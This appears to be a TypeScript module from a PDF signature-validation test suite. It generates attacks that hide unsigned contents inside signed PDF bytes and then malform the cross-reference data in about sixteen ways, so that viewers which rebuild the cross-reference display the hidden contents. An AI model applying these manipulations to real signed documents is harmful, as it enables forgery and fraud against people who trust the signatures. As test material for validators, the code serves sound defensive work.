import { ANY_LEVEL, replacing, type Attack } from './attack.ts';
import { OBJECTS } from './base-files.ts';
import { EVIL, harmless, MISSING, rawUpdated } from './raw-update.ts';

/** Files with a cross-reference stream. */
const STREAMED = ['xref stream', 'object stream'];

/** Contents in the signed bytes that no cross-reference leads to, but which viewers find that rebuild it. */
const HIDDEN_CONTENTS = replacing(
  OBJECTS.orphan,
  'endstream',
  `endstream\nendobj\n${OBJECTS.contents} 0 obj\n${EVIL}`,
);

/** Returns an attack after which some viewers rebuild the cross-reference, which reads well enough for others. */
function rebuilding(
  title: string,
  change: (text: string, start: number) => string,
  files = ['classic', 'several pages'],
): Attack {
  return {
    ...{ family: 'different readers', name: `viewers rebuild the cross-reference: ${title}` },
    ...{ levels: ANY_LEVEL, files, prepare: HIDDEN_CONTENTS },
    change: (bytes) => {
      const text = rawUpdated(bytes, { objects: { ...harmless(bytes), [MISSING]: 'null' } }).toString(
        'latin1',
      );
      return Buffer.from(change(text, Number(/startxref\n(\d+)\n%%EOF\n$/.exec(text)?.[1])), 'latin1');
    },
  };
}

/** Returns a text with a part replaced at or after an offset. */
const from = (text: string, start: number, part: RegExp | string, to: string) =>
  text.slice(0, start) + text.slice(start).replace(part, to);

/** Attacks after which some viewers search the file for objects, and find contents that are hidden in the signed bytes. */
export const REBUILDING_ATTACKS: readonly Attack[] = [
  rebuilding('a comment before its offset', (text, start) => from(text, start, 'startxref', '$& %')),
  rebuilding('a sign before its offset', (text, start) => from(text, start, 'startxref\n', '$&+')),
  rebuilding('a comment before it', (text, start) => from(text, start, 'xref', '%\nxref')),
  rebuilding('a hexadecimal offset', (text, start) =>
    from(text, start, /\d{10}(?= 00000 n)/, `0x${(start - 1).toString(16).padStart(8, '0')}`),
  ),
  rebuilding('no spaces in its entries', (text, start) => from(text, start, / 00000 n /, 'x00000xn ')),
  rebuilding('entries of 21 bytes', (text, start) => from(text, start, / 00000 n \n/g, ' 00000 n \r\n')),
  rebuilding('an entry before a space of another kind', (text, start) =>
    from(text, start, / 00000 n \n/, ' 00000 n\xa0\n'),
  ),
  rebuilding('a range on the line of its first entry', (text, start) =>
    from(text, start, /(\n\d+ 1)\n/, '$1 '),
  ),
  rebuilding('a space before a range', (text, start) => from(text, start, /(?<= n \n)\d+ 1\n/, ' $&')),
  rebuilding('two spaces after a range', (text, start) => from(text, start, /(?<=\n\d+ 1)\n/, '  $&')),
  rebuilding(
    'more entries than a cross-reference stream has',
    (text, start) => {
      const longer = from(text, start, /\/Index\[[^\]]*/, '$& 200 50');
      return from(longer, start, /\/Size \d+/, '/Size 300');
    },
    STREAMED,
  ),
  rebuilding(
    'a type of two bytes in a cross-reference stream',
    (text, start) => {
      const [found = '', entries = ''] = /stream\n([^]*?)\nendstream/.exec(text.slice(start)) ?? [];
      const wider = entries.replace(/[^]{7}/g, '\0$&');
      const coded = from(text, start, found, `stream\n${wider}\nendstream`);
      return from(from(coded, start, /\/Length \d+/, `/Length ${wider.length}`), start, '/W[1 ', '/W[2 ');
    },
    STREAMED,
  ),
  rebuilding(
    'a cross-reference stream without entries',
    (text, start) => {
      const [found = ''] = /\/Index.*\nstream\n[^]*?\nendstream/.exec(text.slice(start)) ?? [];
      const entries = found
        .replace(/\/Index\[[^\]]*\]/, '/Index[0 1]')
        .replace(/\/Length[^]*/, '/Length 0>>');
      const empty = text.slice(start).replace(found, `${entries}\nstream\n\nendstream`);
      const signedEnd = text.lastIndexOf('%%EOF\n', start) + '%%EOF\n'.length;
      const widths = empty
        .replace('/W[1 4 2]', '/W[0 0 0]')
        .replace(/startxref\n\d+/, `startxref\n${signedEnd}`);
      return text.slice(0, signedEnd) + widths;
    },
    STREAMED,
  ),
  rebuilding('a real offset of the one before', (text, start) => from(text, start, /\/Prev \d+/, '$&.0')),
  rebuilding('a Size beyond all numbers', (text, start) =>
    from(text, start, /\/Size \d+/, '/Size 2147483647'),
  ),
  rebuilding(
    'a cross-reference stream in hexadecimal with other characters',
    (text, start) => {
      const [found = '', entries = ''] = /stream\n([^]*?)\nendstream/.exec(text.slice(start)) ?? [];
      const hex = `${Buffer.from(entries, 'latin1').toString('hex')}zz>`;
      const coded = from(text, start, found, `stream\n${hex}\nendstream`);
      return from(coded, start, /\/Length \d+/, `/Filter/ASCIIHexDecode/Length ${hex.length}`);
    },
    STREAMED,
  ),
];
